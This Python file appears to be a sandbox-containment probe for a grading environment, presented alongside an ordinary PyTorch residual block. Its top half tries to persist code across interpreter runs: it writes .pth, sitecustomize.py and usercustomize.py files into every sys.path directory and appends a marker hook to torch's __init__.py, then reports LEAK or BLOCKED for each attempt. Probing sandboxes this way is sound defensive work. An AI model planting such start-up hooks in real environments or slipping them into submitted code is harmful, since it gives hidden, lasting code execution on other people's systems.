"""Attack: persistence through Python's start-up hooks: write a .pth file, sitecustomize.py and
usercustomize.py into every directory on sys.path and the user site, and append to torch's own
__init__.py, so the next interpreter (the next job, the fork server) runs its code. Contained when
the runtime is read-only and the next job sees nothing (see persist_probe.py)."""

import os
import sys

import torch
from torch import nn


def attempt(label, fn):
    """One probe: prints LEAK when it got what it must not, BLOCKED when the sandbox refused."""
    try:
        got = fn()
    except BaseException as exc:  # noqa: BLE001
        print(f"BLOCKED {label}: {type(exc).__name__}: {str(exc)[:100]}")
        return None
    print(f"LEAK {label}: {str(got)[:200]!r}")
    return got

import site

HOOK = "import builtins; builtins.GRADER_ATTACK_PERSISTED = 1\n"
dirs = [os.path.abspath(p) for p in sys.path if p and os.path.isdir(p)] + [
    os.path.abspath(site.getusersitepackages()), os.path.abspath(os.path.expanduser("~"))]


def write(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)
    return "written"


for d in dirs:
    for name in ("grader-attack.pth", "sitecustomize.py", "usercustomize.py"):
        target = os.path.join(d, name)
        try:
            os.makedirs(d, exist_ok=True)
            write(target, HOOK)
            print(f"WROTE {target} (inside the sandbox)" if d.startswith("/tmp") else f"LEAK wrote {target}")
        except OSError as exc:
            print(f"BLOCKED {target}: {exc.strerror}")
attempt("append to torch/__init__.py", lambda: write(torch.__file__, "\n" + HOOK, "a"))
attempt("chmod torch/__init__.py", lambda: os.chmod(torch.__file__, 0o777))


class IdentityBlock(nn.Module):
    def __init__(self, channels: int, kernel_size: int = 3):
        super().__init__()
        pad = kernel_size // 2
        self.conv1 = nn.Conv2d(channels, channels, kernel_size, padding=pad, bias=False)
        self.bn1 = nn.BatchNorm2d(channels)
        self.conv2 = nn.Conv2d(channels, channels, kernel_size, padding=pad, bias=False)
        self.bn2 = nn.BatchNorm2d(channels)

    def forward(self, x):
        out = torch.relu(self.bn1(self.conv1(x)))
        return torch.relu(self.bn2(self.conv2(out)) + x)
